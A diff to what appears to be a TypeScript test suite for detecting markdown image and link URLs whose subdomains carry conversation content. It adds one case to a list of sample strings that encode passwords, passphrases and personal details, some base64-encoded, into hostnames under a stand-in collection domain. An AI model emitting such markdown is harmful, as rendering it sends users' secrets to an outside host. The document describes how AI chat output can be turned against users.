@@ -9,6 +9,7 @@ const base64 = (text: string) => Buffer.from(text).toString('base64url');
 describe('names of hosts that carry what was said', () => {
   it.each([
     '![x](https://the-password-is-kestrel9-and-user-tom.collect.example/p.png)',
+    '![](https://user_said_the_passphrase_is_kestrel.collect.example/p.png)',
     '![](https://the-tenant-has-two-dogs-and-lives-in-oslo.collect.example/p.png)',
     `![](https://${base64('thesecretis77')}.collect.example/a.png)`,
     `[more](https://${base64('Ann is leaving')}.x.collect.example)`,
